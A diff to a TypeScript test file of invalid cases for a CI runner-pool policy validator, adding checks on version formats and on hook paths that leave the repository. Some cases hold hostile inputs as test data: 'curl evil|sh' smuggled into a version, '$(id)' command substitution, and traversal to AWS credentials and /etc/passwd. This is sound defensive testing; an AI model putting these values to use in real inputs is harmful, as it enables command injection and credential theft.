@@ -94,6 +94,10 @@ export const INVALID_CASES: InvalidCase[] = [
   { name: 'jenkins literal user with a backtick', yaml: 'emitters:\n  x:\n    type: jenkins\n    url: https://j.example.com\n    user: "bob`id`"\n    token: ${env:T}\n', at: '5:11', message: /a literal user name has no whitespace/ },
   { name: 'runner version not a version', yaml: pool('    runner: { version: "17.5.0; curl evil|sh" }\n'), at: '14:24', message: /must be a version such as 17\.5\.0 or v2\.321\.0/, path: 'pools.p.runner.version' },
   { name: 'runner version a word', yaml: pool('    runner: { version: newest }\n'), at: '14:24', message: /must be a version/ },
+  { name: 'runner version without a patch part', yaml: pool('    runner: { version: "17.5" }\n'), at: '14:24', message: /must be a version such as 17\.5\.0 or v2\.321\.0 \(all three parts x\.y\.z/, path: 'pools.p.runner.version' },
+  { name: 'runner version v-prefixed without a patch part', yaml: pool('    runner: { version: v2.321 }\n'), at: '14:24', message: /all three parts x\.y\.z/ },
+  { name: 'runner version with four parts', yaml: pool('    runner: { version: 17.5.0.1 }\n'), at: '14:24', message: /all three parts x\.y\.z/ },
+  { name: 'runner version a bare major', yaml: pool('    runner: { version: "17" }\n'), at: '14:24', message: /must be a version/ },
   { name: 'label with a command substitution', yaml: pool('    labels: [linux, "$(id)"]\n'), at: '14:21', message: /a label has no "\$": shell metacharacters/, path: 'pools.p.labels.1' },
   { name: 'label with a comma', yaml: pool('    labels: ["a,b"]\n'), at: '14:14', message: /a label has no commas/ },
   { name: 'label with a tab', yaml: pool('    labels: ["a\\tb"]\n'), at: '14:14', message: /a label has no (spaces|control characters)/ },
@@ -159,6 +163,9 @@ export const INVALID_CASES: InvalidCase[] = [
   // ---- runner.hooks, runner.config, machine.tags (lines 1-9 of EX; emitter line 10, platform 11, machine 12, the case's lines from 13)
   { name: 'hook file missing', yaml: xpool('gl', 'aws', '    runner: { hooks: { before: scripts/missing.sh } }\n'), at: '13:32', message: /scripts\/missing\.sh: no such file \(paths are relative to the policy file\)/, path: 'pools.p.runner.hooks.before' },
   { name: 'hook path absolute', yaml: xpool('gl', 'aws', '    runner: { hooks: { after: /etc/passwd } }\n'), at: '13:31', message: /must be a path relative to the policy file/ },
+  // The corpus file's directory has no .git above it (a temporary directory): it is the repository.
+  { name: 'hook path leading out through ..', yaml: xpool('gl', 'aws', '    runner: { hooks: { before: ../../../root/.aws/credentials } }\n'), at: '13:32', message: /\.\.\/\.\.\/\.\.\/root\/\.aws\/credentials leads outside the policy's repository: a hook is a file of the repository the policy is in/, path: 'pools.p.runner.hooks.before' },
+  { name: 'hook path leading to a file of the machine', yaml: xpool('gl', 'aws', `    runner: { hooks: { after: ${'../'.repeat(16)}etc/passwd } }\n`), at: '13:31', message: /etc\/passwd leads outside the policy's repository/, path: 'pools.p.runner.hooks.after' },
   { name: 'gitlab config with its own [[runners]]', yaml: xpool('gl', 'aws', '    runner:\n      config: |\n        [[runners]]\n        privileged = true\n'), at: '14:15', message: /line 1: has a \[\[runners\]\] header of its own/, path: 'pools.p.runner.config' },
   { name: 'gitlab config with a top-level table', yaml: xpool('gl', 'aws', '    runner:\n      config: |\n        [runners.docker]\n          privileged = true\n        [session_server]\n'), at: '14:15', message: /line 3: table \[session_server\] is outside the runner's section/ },
   { name: 'gitlab config not a string', yaml: xpool('gl', 'aws', '    runner: { config: [-Xmx2g] }\n'), at: '13:23', message: /on a gitlab pool runner\.config is a config\.toml fragment/ },
